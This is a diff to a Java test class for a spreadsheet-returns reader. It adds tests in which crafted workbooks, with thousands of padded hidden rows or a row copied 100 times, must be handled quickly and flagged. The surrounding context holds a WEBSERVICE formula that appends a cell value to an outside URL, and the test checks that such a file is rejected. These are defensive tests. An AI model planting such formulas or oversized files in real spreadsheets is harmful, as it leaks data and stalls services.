@@ -20,6 +20,8 @@ import java.util.zip.ZipEntry;
 import java.util.zip.ZipOutputStream;
 
 import org.apache.poi.poifs.filesystem.POIFSFileSystem;
+import org.apache.poi.xssf.usermodel.XSSFRow;
+import org.apache.poi.xssf.usermodel.XSSFSheet;
 import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
@@ -237,6 +239,49 @@ class HostileFilesTest {
         assertThat(returns.rows(Outcome.NEW)).hasSize(1);
         Path web = saved().formula("N5", "WEBSERVICE(\"http://example.com/\"&I5)", "1").save(folder.resolve("web.xlsx"));
         assertThat(Returns.of(enquiry, web).rows(Outcome.UNREADABLE)).hasSize(1);
+    }
+
+    /** Each of them compared with each other one would keep the office waiting for hours. */
+    @Test
+    @Timeout(120)
+    void rowsThatWereNeverAskedForCostNothing() throws IOException {
+        Path file = folder.resolve("rows.xlsx");
+        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(saved().number("I5", 3).save(folder.resolve("one.xlsx"))));
+                OutputStream out = Files.newOutputStream(file)) {
+            XSSFSheet answers = workbook.getSheetAt(1);
+            XSSFSheet hidden = workbook.getSheetAt(2);
+            for (int i = 0; i < 4000; i++) {
+                XSSFRow claimed = hidden.createRow(1000 + i);
+                claimed.createCell(0).setCellValue("row");
+                claimed.createCell(1).setCellValue("k" + i);
+                claimed.createCell(4).setCellValue("t" + i + "あ゛".repeat(100));
+                XSSFRow answer = answers.createRow(1000 + i);
+                answer.createCell(0).setCellValue("k" + i);
+                answer.createCell(3).setCellValue("x" + "あ゛".repeat(100));
+            }
+            workbook.write(out);
+        }
+        assertThat(Returns.of(enquiry, file).collected().rows()).filteredOn(row -> row.outcome() == Outcome.NEW
+                || row.outcome() == Outcome.CONFLICTING).as("what was asked").hasSize(1);
+    }
+
+    @Test
+    void aRowThatIsThereAHundredTimesIsNotPutTogether() throws IOException {
+        Path file = folder.resolve("copies.xlsx");
+        try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(saved().number("I5", 3).save(folder.resolve("one.xlsx"))));
+                OutputStream out = Files.newOutputStream(file)) {
+            XSSFSheet answers = workbook.getSheetAt(1);
+            String key = answers.getRow(4).getCell(0).getStringCellValue();
+            for (int i = 0; i < 100; i++) {
+                XSSFRow copy = answers.createRow(1000 + i);
+                copy.createCell(0).setCellValue(key);
+                copy.createCell(8).setCellValue(3);
+                copy.createCell(13).setCellValue("その" + i);
+            }
+            workbook.write(out);
+        }
+        assertThat(Returns.of(enquiry, file).rows(Outcome.CONFLICTING)).singleElement()
+                .satisfies(row -> assertThat(Returns.said(row)).contains("複数あります"));
     }
 
     @Test
